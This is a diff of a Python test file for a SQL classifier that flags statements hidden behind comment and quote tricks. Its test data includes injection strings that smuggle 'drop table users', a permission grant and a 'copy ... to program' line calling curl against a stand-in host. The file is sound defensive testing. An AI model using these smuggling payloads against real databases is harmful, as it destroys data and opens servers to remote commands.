@@ -79,10 +79,38 @@ def test_too_many_statements_cannot_be_read() -> None:
         "select 1 /*! ' */; drop table users; -- '",
         "select 1 /*!' */; copy users to program 'curl a.example'; select '",
         "select 1 /*! ' */; grant all on users to evil; -- '",
+        "/* /* */ ' */ drop table users; -- '",
     ],
 )
 def test_a_comment_that_only_some_databases_run_cannot_be_read(text: str) -> None:
     assert "unreadable" in {each.kind for each in read_sql(text)}
+
+
+def test_one_comment_behind_another_can_be_read() -> None:
+    assert [each.kind for each in read_sql("/* a /b */ select 1 /* c */")] == ["looks"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r"select '\''; drop table users; -- '",
+        """select 1 as "'"; drop table users; -- '""",
+        "select `'`; /* x */ drop table users; -- '",
+        "select 1 # '\n; DROP\tTABLE users; -- '",
+        "select $$'$$;drop table users;'",
+        "select 1--1; drop table users",
+        'select 1 as "/*"; drop table users; -- */',
+    ],
+)
+def test_where_databases_differ_about_texts_and_comments_these_hide_no_statement(text: str) -> None:
+    assert ("deletes-data", "users") in {(each.kind, each.target) for each in read_sql(text)}
+
+
+@pytest.mark.parametrize(
+    "text", ["insert into t values ('a; b; drop shadow')", "select 'it''s; a' -- drop table users", "select ';'"]
+)
+def test_other_semicolons_in_texts_and_comments_open_no_door(text: str) -> None:
+    assert {each.kind for each in read_sql(text)} <= {"changes-record", "looks"}
 
 
 def test_a_quote_in_a_comment_that_runs_hides_no_statement() -> None:
